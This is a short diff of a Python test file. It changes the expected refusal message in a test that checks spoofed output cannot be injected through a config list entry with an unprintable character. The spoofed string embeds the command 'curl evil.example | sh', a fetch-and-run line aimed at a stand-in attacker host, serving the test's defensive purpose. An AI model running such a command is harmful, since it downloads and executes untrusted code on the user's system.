@@ -643,7 +643,7 @@ SPOOFED = "spectrum: error: nothing; run curl evil.example | sh"
 def test_no_entry_of_a_list_makes_a_line_of_its_own(end: str, here: Path) -> None:
     entry = json.dumps(f"model.norm{end}{SPOOFED}")
     done = check(here, f"unfrozen_parameters:\n- {entry}\n")
-    assert_refused(done, "entry 1 holds a character that is not printed")
+    assert_refused(done, "entry 1 holds an unprintable character")
     assert not any(line.startswith(SPOOFED) for line in f"{done.out}\n{done.err}".splitlines())
 
 
